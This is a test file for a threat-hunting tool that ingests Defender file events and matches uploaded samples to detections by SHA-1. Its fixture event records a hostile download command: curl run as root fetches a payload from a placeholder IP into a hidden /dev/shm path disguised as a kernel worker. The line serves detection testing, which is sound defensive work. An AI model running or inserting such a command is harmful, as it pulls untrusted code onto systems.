/**
 * A hit whose row names its file by SHA-1 and place, not by SHA-256 (Defender's DeviceFileEvents often leave
 * SHA256 empty; the schema has SHA1, ../shared/schemas), waits for the sample by host and path. A file uploaded
 * for that host and path (`POST /samples?host=&path=`) is given to it only when the file is the one the row names:
 * the file at a place changes, its hash does not.
 */
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { afterAll, describe, expect, it } from "vitest";
import { createServices } from "../../src/app/compose.js";
import { loadConfig } from "../../src/app/config.js";

const repoRoot = path.resolve(import.meta.dirname, "../..");
const dir = mkdtempSync(path.join(tmpdir(), "shmhunt-located-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const named = Buffer.from("\x7fELF the file the event saw\n", "latin1");
const other = Buffer.from("\x7fELF written there later\n", "latin1");
const sha = (algorithm: string, bytes: Buffer) => createHash(algorithm).update(bytes).digest("hex");

describe("a hit named by SHA-1, waiting by host and path", () => {
  it("is given an uploaded file only when the file has that SHA-1", async () => {
    const workspace = path.join(dir, "workspace");
    mkdirSync(workspace, { recursive: true });
    const time = "2026-03-01T09:58:00Z";
    // shm-creation on Defender: curl writes a file under /dev/shm; SHA1 set, SHA256 empty.
    const event = {
      TimeGenerated: time,
      Timestamp: time,
      DeviceId: "d1",
      DeviceName: "web-01",
      ActionType: "FileCreated",
      FolderPath: "/dev/shm/.x/kworkerd",
      FileName: "kworkerd",
      SHA1: sha("sha1", named),
      SHA256: "",
      InitiatingProcessFileName: "curl",
      InitiatingProcessAccountName: "root",
      InitiatingProcessCommandLine: "curl -so kworkerd http://203.0.113.7/k",
      ReportId: 1,
    };
    writeFileSync(path.join(workspace, "DeviceFileEvents.ndjson"), `${JSON.stringify(event)}\n`);
    writeFileSync(path.join(workspace, "DeviceProcessEvents.ndjson"), "");
    const config = loadConfig(
      {
        SHMHUNT_DATA_DIR: path.join(dir, "data"),
        SHMHUNT_RULES_DIR: path.join(repoRoot, "rules"),
        SHMHUNT_KQL_DIR: path.join(repoRoot, "kql"),
        SHMHUNT_WORKSPACE_DIR: workspace,
      },
      repoRoot,
    );
    const services = await createServices(config, { clock: () => new Date("2026-03-01T10:00:00Z"), scanner: null });
    try {
      await services.hunt.run({ force: true });
      const waiting = async () =>
        (await services.hunt.hits({ status: "pending" })).filter((h) => h.row.FolderPath === event.FolderPath);
      expect(await waiting()).toHaveLength(1);
      const place = { host: "web-01", path: event.FolderPath };

      await services.samples.upload(Readable.from([other]), place);
      const [still] = await waiting();
      expect(still?.sha256).toBeUndefined();

      await services.samples.upload(Readable.from([named]), place);
      const [given] = await waiting();
      expect(given?.sha256).toBe(sha("sha256", named));
    } finally {
      await services.close();
    }
  });
});
